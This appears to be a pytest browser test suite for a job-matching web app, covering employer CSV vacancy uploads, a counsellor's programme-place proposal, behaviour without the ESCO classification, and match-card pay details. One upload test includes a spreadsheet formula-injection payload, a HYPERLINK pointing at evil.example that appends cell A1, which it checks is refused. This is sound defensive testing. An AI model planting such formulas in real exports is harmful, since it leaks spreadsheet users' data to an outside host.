"""Issue 16 items 4, 5, 11-13 as an employer and a counsellor see them, in the browser on the demo data.

The upload page lists what each column takes and offers a template; labels the form shows are
accepted; an unclosed quote, a past closing date and a formula are each reported plainly; a
good upload links what it stored. "Fill programme places" counts reachable places and its
result is found again after signing in anew. Without ESCO the profile explains, not offers.
"""

from __future__ import annotations

import datetime as dt
from typing import Any

import pytest
from sqlalchemy import select

pytestmark = pytest.mark.browser

EMPLOYER = "employer.coop-retail"
COUNSELLOR = "counsellor.manchester"
HEADER = (
    "id,title,sector,locality,latitude,longitude,description,skills_required,languages_required,"
    "hours_per_week,shift,pay,pay_period,contract,closes_on\n"
)
LABELLED = (
    "lb-1,Shop floor colleague,Retail,Manchester,,,"
    "Serve customers and fill shelves. Written contract and weekly pay.,"
    "customer service,English,30,Day shift,12.60,Hour,Permanent,{closes}\n"
    "lb-2,Care assistant,care work,Manchester,,,"
    "Help residents with daily tasks. Written contract and weekly pay.,"
    "personal care,English,24,Evening shift,12.40,hour,Fixed-term,\n"
)


def _upload(visit: Any, content: str, name: str = "jobs.csv") -> None:
    page = visit.page
    page.locator("#file").set_input_files({"name": name, "mimeType": "text/csv", "buffer": content.encode()})
    with page.expect_navigation():
        page.get_by_role("button", name="Upload").click()


def test_upload_takes_the_forms_words_and_explains_every_refusal(visit: Any) -> None:
    page = visit.page
    closes = (dt.date.today() + dt.timedelta(days=40)).isoformat()
    visit.login(EMPLOYER)
    visit.goto("/vacancies/upload", "upload page")
    page.get_by_text("What each column takes").click()
    guide = page.locator(".upload-guide table").inner_text()
    offered = ("Retail", "Care work (care)", "Day shift (day)", "Fixed-term", "Office and administration")
    for shown in offered:
        assert shown in guide, shown
    visit.check("upload page, column guide open")

    with page.expect_download() as download:
        page.get_by_role("link", name="Download a template (CSV)", exact=False).click()
    template = open(download.value.path(), encoding="utf-8-sig").read()
    assert template.startswith(HEADER.strip()) and "Kitchen porter" in template

    unclosed = HEADER + LABELLED.format(closes=closes).replace("Serve customers", '"Serve customers')
    _upload(visit, unclosed)
    visit.check("unclosed quote")
    listed = page.locator(".error-summary li").all_inner_texts()
    assert listed and listed[0].startswith("jobs.csv line 2: has a quotation mark"), listed
    assert not any("is required" in line for line in listed), listed

    past = (dt.date.today() - dt.timedelta(days=3)).isoformat()
    formula = '"=HYPERLINK(""http://evil.example/?x=""&A1, ""Apply"")"'
    bad = HEADER + LABELLED.format(closes=past).replace("Shop floor colleague", formula)
    _upload(visit, bad)
    visit.check("past date and formula")
    listed = page.locator(".error-summary li").all_inner_texts()
    assert any(line.startswith("jobs.csv line 2, title: starts with '='") for line in listed), listed
    refused = f"jobs.csv line 2, closes_on: is in the past ({past})"
    assert any(line.startswith(refused) for line in listed), listed

    _upload(visit, HEADER + LABELLED.format(closes=closes))
    visit.check("labelled upload stored")
    assert page.locator(".flash-success").inner_text().startswith("2 created, 0 updated")
    stored = page.locator(".upload-saved li").all_inner_texts()
    assert stored[0].startswith("Shop floor colleague (lb-1): created"), stored
    with page.expect_navigation():
        page.locator(".upload-saved").get_by_role("link", name="Care assistant").click()
    assert page.locator("h1").inner_text().startswith("Care assistant")
    visit.check("stored vacancy")


def test_fill_programme_places_counts_reachable_places_and_keeps_the_result(visit: Any) -> None:
    page = visit.page
    visit.login(COUNSELLOR)
    visit.goto("/placements/cohort", "fill programme places")
    assert "places are open in programmes they can reach" in page.locator("main").inner_text()
    with page.expect_navigation():
        page.get_by_role("button", name="Work out a proposal").click()
    page.get_by_role("heading", name="Review before proposing").wait_for(timeout=120_000)
    result_url = page.url
    visit.check("cohort result")
    text = page.locator("main").inner_text()
    assert "Places they fit:" in text
    assert ("give the same places here" in text) != ("a simple first-come share-out would give" in text)

    page.context.clear_cookies()  # a new sign-in: nothing of the old browser session is left
    visit.login(COUNSELLOR)
    visit.goto("/placements/cohort", "fill programme places after signing in again")
    with page.expect_navigation():
        page.get_by_role("link", name="Your latest proposal").click()
    assert page.url == result_url
    page.get_by_role("heading", name="Review before proposing").wait_for()
    visit.check("latest result found again")


def test_without_esco_the_profile_explains_instead_of_offering(visit: Any) -> None:
    from web.infra.db import session
    from web.storage.schema import Person, User

    app, page = visit.server.app, visit.page
    assert not app.config.get("ESCO_DIR")
    with app.app_context():
        db = session()
        counsellor = db.execute(select(User).where(User.username == COUNSELLOR)).scalar_one()
        person_id = db.execute(
            select(Person.id).where(Person.organisation_id == counsellor.organisation_id).limit(1)
        ).scalar_one()
    visit.login(COUNSELLOR)
    visit.goto(f"/people/{person_id}", "profile without ESCO")
    assert page.get_by_role("link", name="What would unlock more work?").count() == 0
    assert "need the ESCO classification" in page.locator("#esco-missing").inner_text()
    visit.goto(f"/market/unlock/{person_id}", "unlock without ESCO")
    assert "ESCO" in page.locator("main").inner_text()


def test_match_cards_say_employer_pay_hours_and_closing_date(visit: Any) -> None:
    """Issue 16 item 6: pay in the person's own period; the pay filter starts on that period."""
    from web.infra.db import session
    from web.people.service import consents_in_force
    from web.storage.schema import Person, User

    app, page = visit.server.app, visit.page
    with app.app_context():
        db = session()
        counsellor = db.execute(select(User).where(User.username == COUNSELLOR)).scalar_one()
        people = db.scalars(select(Person).where(Person.organisation_id == counsellor.organisation_id))
        person = next(p for p in people if "matching" in consents_in_force(p) and p.pay_period)
        person_id, period = person.id, person.pay_period
    visit.login(COUNSELLOR)
    visit.goto(f"/people/{person_id}/matches", "match cards")
    assert page.locator("#f-pay_period").input_value() == period
    facts = page.locator(".card.match .card-facts").all_inner_texts()
    assert facts, "no match card shows its facts"
    assert all(f"per {period}" in line for line in facts if " per " in line), facts
    assert any("hours a week" in line for line in facts), facts
